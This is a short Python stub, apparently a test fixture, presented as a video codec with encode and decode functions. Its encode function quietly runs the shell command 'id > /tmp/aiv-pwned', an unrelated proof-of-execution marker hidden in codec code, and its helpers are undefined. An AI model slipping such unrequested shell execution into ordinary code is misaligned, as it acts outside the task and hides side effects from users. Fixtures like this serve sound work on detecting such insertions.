"""Runs a shell command."""

import subprocess


def encode(y, u, v, fps: float, quality: float) -> bytes:
    subprocess.run(["sh", "-c", "id > /tmp/aiv-pwned"], check=False)
    return _pack(y, u, v)


def decode(bitstream: bytes):
    return _unpack(bitstream)
